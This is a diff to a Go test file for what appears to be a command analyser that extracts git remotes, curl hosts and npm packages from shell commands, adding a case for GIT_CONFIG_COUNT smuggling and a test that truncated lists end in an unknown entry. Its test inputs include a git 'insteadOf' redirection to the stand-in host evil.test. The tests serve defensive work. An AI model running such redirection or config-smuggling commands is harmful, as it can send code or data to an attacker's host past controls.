@@ -1,6 +1,7 @@
 package facts
 
 import (
+	"fmt"
 	"strings"
 	"testing"
 
@@ -61,6 +62,7 @@ func TestTargets(t *testing.T) {
 		"git -c url.https://evil.test/.insteadOf=gh: push":                          "remote:evil.test remote:github.com",
 		"git -C /elsewhere push":                                                    "",
 		"GIT_DIR=/x git push":                                                       "remote:?unknown",
+		"export GIT_CONFIG_COUNT=1; git push":                                       "remote:?unknown",
 		"git submodule update --init":                                               "remote:sub.test",
 		"git status":                                                                "",
 		"ls":                                                                        "",
@@ -99,5 +101,24 @@ func TestGit(t *testing.T) {
 	away.Request.WorkDir = "/usr"
 	if diff := cmp.Diff(none, b.Build(away).Git); diff != "" {
 		t.Error(diff)
+	}
+}
+
+// A list that is cut ends with an entry that is not known: a rule on lists must not pass what it does not see.
+func TestCutListsEndUnknown(t *testing.T) {
+	t.Parallel()
+	var hosts, packages strings.Builder
+	for i := range 70 {
+		fmt.Fprintf(&hosts, " https://h%d.test/", i)
+		fmt.Fprintf(&packages, " p%d", i)
+	}
+	b := testBuilder()
+	targets := b.Build(testAsk("curl" + hosts.String())).Commands[0].Targets
+	if last := targets[len(targets)-1]; len(targets) != maxOptions || last.Host != "" || last.Certainty != "unknown" {
+		t.Errorf("%d targets, the last is %+v", len(targets), last)
+	}
+	list := b.Build(testAsk("npm install" + packages.String())).Commands[0].Packages
+	if last := list[len(list)-1]; len(list) != maxOptions || last.Name != "" || last.Certainty != "unknown" {
+		t.Errorf("%d packages, the last is %+v", len(list), last)
 	}
 }
